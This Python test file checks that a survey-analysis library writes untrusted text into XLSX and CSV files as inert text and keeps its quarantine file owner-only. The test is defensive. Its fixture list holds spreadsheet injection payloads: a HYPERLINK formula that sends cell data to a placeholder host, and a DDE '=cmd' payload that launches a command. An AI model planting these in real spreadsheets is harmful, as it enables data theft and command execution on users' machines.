"""Text from the inputs reaches the spreadsheets as text: no planted formula runs."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from adoption_lib.cell_text import csv_value
from adoption_lib.config.playbook import load_playbook
from adoption_lib.diagnosis.action_plan import write_action_plan
from adoption_lib.survey.quality import write_quarantine

#: what a respondent or a roster could carry into a department name or an answer
PLANTED = (
    '=HYPERLINK("http://x/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def test_planted_formulas_are_text_cells_in_the_xlsx_and_quoted_in_the_csv(
    tmp_path: Path,
) -> None:
    actions = [
        {
            "id": f"A{i}",
            "barrier": "process_fit",
            "action": text,
            "owner_role": "Sales manager",
            "due": "2026-12-31",
            "measure": "constructs.process_fit.unfavourable_pct",
            "baseline": 0.4,
            "target": 0.3,
            "status": "planned",
            "scope": f"department {text}",
            "evidence": text,
        }
        for i, text in enumerate(PLANTED)
    ]
    register = [{"id": a["id"], "phase_days": 30, "label": a["action"]} for a in actions]
    xlsx, plan_csv = write_action_plan(actions, register, load_playbook(), tmp_path)
    book = load_workbook(xlsx)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    plan = book["Plan"]
    header = [c.value for c in plan[1]]
    action_column = header.index("Action") + 1
    found = [plan.cell(row=r, column=action_column) for r in range(2, len(PLANTED) + 2)]
    assert [c.value for c in found] == list(PLANTED)  # the text itself, unchanged
    assert {c.data_type for c in found} == {"s"}
    rows = list(csv.reader(plan_csv.open(encoding="utf-8", newline="")))
    column = rows[0].index("Action")
    assert [r[column] for r in rows[1:]] == ["'" + t for t in PLANTED]


def test_the_quarantine_file_quotes_planted_formulas_and_is_owner_only(tmp_path: Path) -> None:
    respondents = pd.DataFrame(
        {
            "source": ["survey.csv", "survey.csv"],
            "row": [4, 5],
            "response_id": ["=cmd|' /C calc'!A0", "R_2"],
            "excluded": ["duplicate", "preview"],
            "exclusion_detail": ["same response as row 3", "@SUM(A1)"],
        }
    )
    path = write_quarantine(respondents, tmp_path / "private" / "survey_quarantine.csv")
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows[1] == [
        "survey.csv",
        "4",
        "'=cmd|' /C calc'!A0",
        "duplicate",
        "same response as row 3",
    ]
    assert rows[2] == ["survey.csv", "5", "R_2", "preview", "'@SUM(A1)"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_only_text_that_starts_like_a_formula_is_marked() -> None:
    assert [csv_value(v) for v in ("Sales", "a=b", "", 3, -1.5, None)] == [
        "Sales",
        "a=b",
        "",
        3,
        -1.5,
        None,
    ]
